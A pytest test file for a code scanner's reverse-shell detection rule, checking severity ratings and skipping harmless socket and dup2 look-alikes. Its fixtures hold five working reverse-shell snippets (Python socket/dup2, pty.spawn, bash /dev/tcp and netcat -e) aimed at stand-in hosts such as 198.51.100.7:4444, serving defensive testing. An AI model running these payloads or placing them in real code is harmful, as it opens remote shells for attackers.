import pytest

from tests.inspected import found, loose, model, severities

SHELLS = {
    "dup2": (
        "import socket, subprocess, os\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\n"
        "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n"
    ),
    "handles": "import socket, subprocess\ns = socket.create_connection(('host.example', 1))\nsubprocess.Popen(['cmd'], stdin=s, stdout=s)\n",
    "terminal": "import socket, pty\ns = socket.socket()\ns.connect(('198.51.100.7', 1))\npty.spawn('/bin/bash')\n",
    "bash": "import os\nos.system('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')\n",
    "netcat": "import subprocess\nsubprocess.run('nc 198.51.100.7 4444 -e /bin/sh', shell=True)\n",
}


@pytest.mark.parametrize("source", SHELLS.values(), ids=SHELLS)
def test_shapes(source: str) -> None:
    assert severities("code-reverse-shell", model(source))[0] == "critical"
    assert severities("code-reverse-shell", loose(source))[0] == "high"


@pytest.mark.parametrize(
    "source",
    [
        "import socket\nhost = socket.gethostbyname(socket.gethostname())\n",
        "import socket\ndef free_port():\n    s = socket.socket()\n    s.bind(('', 0))\n    return s.getsockname()[1]\n",
        "import os, sys\ndef quiet():\n    null = os.open(os.devnull, os.O_RDWR)\n    os.dup2(null, 1)\n",
    ],
)
def test_harmless_look_alikes(source: str) -> None:
    assert found("code-reverse-shell", model(source)) == []
